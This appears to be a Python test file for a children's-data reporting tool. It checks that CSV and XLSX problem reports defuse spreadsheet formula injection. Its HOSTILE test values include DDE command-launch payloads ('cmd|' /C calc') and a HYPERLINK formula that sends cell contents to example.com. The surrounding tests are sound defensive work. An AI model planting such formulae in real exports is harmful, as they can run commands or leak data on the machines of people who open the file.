"""The problem reports: every problem, as CSV a spreadsheet can open safely, and JSON."""

import csv
import json

from openpyxl import load_workbook

from smeaton.analytics import reports

HOSTILE = {
    "child": '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "SEX": "+cmd|' /C calc'!A0",
    "ETHNIC": "@SUM(1+1)*cmd",
    "UPN": "-2+3+cmd|' /C calc'!A0",
}


def test_problems_csv_neutralises_formulae_in_values_and_child_ids(write, load, tmp_path):
    child = HOSTILE["child"].replace('"', '""')
    result = load(write("2018/header.csv", "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB",
                        f'"{child}",{HOSTILE["SEX"]},01/02/2010,{HOSTILE["ETHNIC"]},'
                        f'"{HOSTILE["UPN"]}",,', "C2,1,-5,WBRI,UN1,,"), la_code="879")
    csv_path, xlsx_path, json_path = reports.write(result, tmp_path / "report")
    with csv_path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    by_column = {row["column"]: row for row in rows}
    for column in ("SEX", "ETHNIC", "UPN"):
        assert by_column[column]["value"] == "'" + HOSTILE[column]
        assert by_column[column]["child"] == "'" + HOSTILE["child"]
    assert by_column["DOB"]["value"] == "-5"  # a number is not a formula
    # problems.json is not opened by spreadsheets: it keeps the values as given.
    held = json.loads(json_path.read_text())["problems"]
    assert {problem["child"] for problem in held} == {HOSTILE["child"], "C2"}
    sheet = load_workbook(xlsx_path)["Problems"]
    values = {row[4]: row[5] for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert values["SEX"] == "'" + HOSTILE["SEX"]


def test_the_workbook_has_every_problem_and_a_summary_by_rule(write, load, tmp_path):
    """A child with no episodes is DfE's query EPI; an ethnicity not on the list is
    rule 103, found by the format checks."""
    result = load(write("2026/header.csv", "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB",
                        "C1,M,01/02/2010,XXXX,UN1,,"), la_code="879")
    _, xlsx_path, json_path = reports.write(result, tmp_path / "report")
    book = load_workbook(xlsx_path)
    problems = list(book["Problems"].iter_rows(min_row=2, values_only=True))
    assert problems[0] == tuple(reports.PROBLEM_HEADINGS)
    by_rule = {row[6]: row for row in problems[1:]}
    assert by_rule["103"][:6] == (2026, "header.csv", "header", 2, "ETHNIC", "XXXX")
    assert by_rule["EPI"][8] == "query"
    rules = {row[1]: row for row in book["Rules"].iter_rows(min_row=3, values_only=True)}
    assert rules["EPI"][3:6] == ("query", 1, 1)
    assert rules["103"][4] == 1
    assert json.loads(json_path.read_text())["rules"]


def test_a_problem_kind_is_its_reason_without_particulars():
    from smeaton.analytics.problems import kind

    assert kind("overlaps the next episode, which starts 11/01/2018 (row 313)") == \
        kind("overlaps the next episode, which starts 02/10/2017 (row 1554)") == \
        "overlaps the next episode, which starts … (row …)"
    assert kind("after the end of the 2024 collection year (31 March 2024)") == \
        "after the end of the … collection year (… March …)"
    assert kind("the column 'CHILD ID' appears twice") == "the column … appears twice"
    assert kind("not a valid SSDA903 code") == "not a valid SSDA903 code"
